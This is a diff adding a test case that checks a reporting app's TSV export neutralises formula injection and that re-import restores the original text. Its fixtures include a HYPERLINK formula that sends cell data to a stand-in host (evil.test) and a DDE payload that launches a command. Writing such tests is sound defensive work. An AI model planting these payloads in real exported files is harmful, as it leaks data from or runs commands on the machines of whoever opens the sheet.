@@ -118,6 +118,56 @@ describe("reports from other years and partnerships", () => {
     ]);
   });
 
+  it("keeps text that looks like a formula through export and import: the TSV escapes it, the import takes the apostrophe off", async () => {
+    const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
+    const DDE = "+cmd|' /C calc'!A0";
+    const text = [
+      row("Year 6 - April 2024 to March 2025"),
+      row("Priority 1", "-- SAFER NIGHT-TIME ECONOMY --"),
+      row("Outcome", "@ every venue: fewer assaults"),
+      row("Ref", "Activities", "Data collation", "Q1", "Q2", "Q3", "Q4", "Trend"),
+      row("N1", "Assaults in the night-time economy", "Durham Constabulary", HYPERLINK, DDE, "@SUM(A1:A9)", "'=already an apostrophe"),
+      row("", "", "", "A first paragraph", "", "", "-a bullet"),
+      row("", "", "", "=1+1 on a second paragraph"),
+      row("N2", "Change in repeat victims", "Durham Constabulary", "-3", "-1.5", "-3 compared to Q1"),
+      row("N3", "Change in the rate", "Durham Constabulary", "-2.5%", "4.0%"),
+    ].join("\n");
+    const imported = await importText(text, "2024/25");
+    expect(imported.statusCode, imported.body).toBe(200);
+    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2024/25" } });
+    const stored = async () =>
+      (await test.db.prisma.return.findMany({ where: { quarter: { yearId: year.id } }, include: { values: true, indicator: true, quarter: true }, orderBy: [{ indicatorId: "asc" }, { quarterId: "asc" }] })).map(
+        (found) => `${found.indicator.ref} Q${found.quarter.number}: ${found.values[0]?.number ?? found.commentary}`,
+      );
+    const before = await stored();
+    expect(before).toEqual([
+      `N1 Q1: ${HYPERLINK}\nA first paragraph\n=1+1 on a second paragraph`,
+      `N1 Q2: ${DDE}`,
+      "N1 Q3: @SUM(A1:A9)",
+      // A spreadsheet's own mark for "this is text" is read as such.
+      "N1 Q4: =already an apostrophe\n-a bullet",
+      "N2 Q1: -3",
+      "N2 Q2: -1.5",
+      "N2 Q3: -3 compared to Q1",
+      "N3 Q1: -2.5%",
+      "N3 Q2: 4",
+    ]);
+
+    const exported = (await admin.get(`/api/reports/${year.id}.tsv`)).body;
+    const cells = exported.split("\n").map((line) => line.split("\t"));
+    expect(cells.find((line) => line[0] === "Priority 1")![1]).toBe("'-- SAFER NIGHT-TIME ECONOMY --");
+    expect(cells.find((line) => line[0] === "N1")!.slice(3, 7)).toEqual([`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`, `'${DDE}`, "'@SUM(A1:A9)", "'=already an apostrophe"]);
+    expect(cells.find((line) => line[0] === "N2")!.slice(3, 6)).toEqual(["-3", "-1.5", "'-3 compared to Q1"]);
+    expect(cells.find((line) => line[0] === "N3")!.slice(3, 5)).toEqual(["-2.5%", "4.0%"]);
+    expect(exported).toContain("\t'=1+1 on a second paragraph\t");
+
+    const again = await importText(exported, "2024/25");
+    expect(again.json().summary).toMatchObject({ prioritiesUpdated: 0, indicatorsUpdated: 0, returnsWritten: 0, returnsUnchanged: 9 });
+    expect(await stored()).toEqual(before);
+    const priority = await test.db.prisma.priority.findFirstOrThrow({ where: { yearId: year.id } });
+    expect([priority.title, priority.outcome]).toEqual(["-- SAFER NIGHT-TIME ECONOMY --", "@ every venue: fewer assaults"]);
+  });
+
   it("refuses a malformed file with the line of every problem, and imports nothing", async () => {
     const before = await fingerprint(test.db);
     const text = [
